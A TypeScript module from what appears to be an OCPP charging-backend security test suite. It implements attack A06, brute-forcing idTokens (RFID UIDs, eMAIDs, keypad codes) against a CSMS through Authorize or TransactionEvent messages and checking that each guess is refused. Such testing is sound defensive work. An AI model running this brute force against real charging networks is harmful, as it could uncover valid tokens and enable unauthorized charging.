import type { Payload } from '../../ocpp/session.js';
import type { AttackEnv } from '../env.js';
import { nextUid, randomEmaid, randomKeyCode, randomUid } from '../tokens.js';
import type { AttackImpl } from '../types.js';

// What a CSMS must answer a guessed token with (ATTACKS.md A06): idTokenInfo.status Unknown or Invalid.
const EXPECT = [{ kind: 'status', value: ['Unknown', 'Invalid'] }] as const;

/**
 * A06 idToken brute force: the target station presents guessed idTokens at `rate`/s — random or consecutive
 * ISO 14443 UIDs, eMAIDs or keypad codes — by Authorize (or by TransactionEvent Started, the way a station
 * without local authorization would), and records whether each was refused.
 */
export const A06: AttackImpl = {
  type: 'A06',
  title: 'idToken brute force',
  async run(env: AttackEnv): Promise<void> {
    const st = env.stations[0];
    if (!st) return;
    const { tokenType, uidBytes, sequential, via } = env.params as { tokenType: string; uidBytes: 4 | 7; sequential: boolean; via: string };
    const base = randomUid(env.rng, uidBytes);
    const guess = (n: number): string => {
      if (tokenType === 'eMAID') return randomEmaid(env.rng);
      if (tokenType === 'KeyCode') return randomKeyCode(env.rng);
      return sequential ? nextUid(base, n) : randomUid(env.rng, uidBytes);
    };
    await env.every(env.rate, async (n) => {
      if (!st.online) return;
      const idToken = { idToken: guess(n), type: tokenType };
      env.scope.token(idToken.idToken);
      if (via === 'Authorize') {
        await env.call(st, 'Authorize', { idToken }, { expect: EXPECT });
        return;
      }
      await startWithToken(env, st, idToken);
    });
  },
};

// A TransactionEvent Started on a free EVSE with the guessed token; ended at once whatever the answer was, so
// no transaction is left open at the CSMS.
async function startWithToken(env: AttackEnv, st: AttackEnv['stations'][number], idToken: Payload): Promise<void> {
  const evse = st.evses[0]!;
  const transactionId = `atk-${env.rng.int(0, 0x7fffffff).toString(36)}${env.rng.int(0, 0x7fffffff).toString(36)}`;
  const base = { transactionInfo: { transactionId }, evse: { id: evse.id, connectorId: evse.connectorId } };
  await env.call(st, 'TransactionEvent', {
    ...base, eventType: 'Started', timestamp: st.now(), triggerReason: 'Authorized', seqNo: 0, idToken,
  }, { expect: EXPECT, frame: 'TransactionEvent(Started)' });
  await st.call('TransactionEvent', {
    ...base, eventType: 'Ended', timestamp: st.now(), triggerReason: 'Deauthorized', seqNo: 1,
    transactionInfo: { transactionId, stoppedReason: 'DeAuthorized' },
  });
}
